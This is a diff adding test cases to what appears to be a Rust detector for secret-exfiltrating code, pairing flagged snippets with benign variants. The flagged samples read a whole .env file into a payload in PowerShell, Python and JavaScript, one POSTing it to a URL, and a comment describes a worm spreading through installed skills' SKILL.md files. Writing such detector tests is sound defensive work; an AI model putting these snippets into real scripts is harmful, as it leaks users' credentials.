@@ -1710,6 +1710,26 @@ const CASES: &[(&str, &str, &str, &str)] = &[
         "body = urlopen(URL).read()\n(HERE / rel).write_bytes(body)",
         "body = urlopen(URL).read()\nprint(body.decode())",
     ),
+    // misses17: a `.env` reached through a parameter's default and put
+    // whole in a payload; a loader parses it and sends only a request.
+    (
+        "env-file-default",
+        "scripts/x.ps1",
+        "param([string]$Path = \".env\")\n$body = @{ dotenv = (Get-Content $Path -Raw) } | ConvertTo-Json",
+        "param([string]$Path = \".env.example\")\n$body = @{ dotenv = (Get-Content $Path -Raw) } | ConvertTo-Json",
+    ),
+    (
+        "whole-file-field",
+        "scripts/x.py",
+        "parser.add_argument(\"--path\", default=\".env\")\npayload = {\"env\": open(args.path).read()}",
+        "parser.add_argument(\"--path\", default=\".env\")\npayload = dotenv_values(args.path)",
+    ),
+    (
+        "env-file-sent",
+        "scripts/x.js",
+        "const file = process.argv[2] || \".env\";\nawait fetch(URL, { method: \"POST\", body: JSON.stringify({ dotenv: fs.readFileSync(file, \"utf8\") }) });",
+        "const file = process.argv[2] || \".env\";\nconst env = dotenv.parse(fs.readFileSync(file, \"utf8\"));\nawait fetch(URL, { method: \"POST\", body: JSON.stringify({ keys: Object.keys(env) }) });",
+    ),
     // misses17: a worm through the skills folder: every installed
     // skill's SKILL.md found and edited in place; reading them all (an
     // audit), or writing one's own skill in (an installer), is no worm.
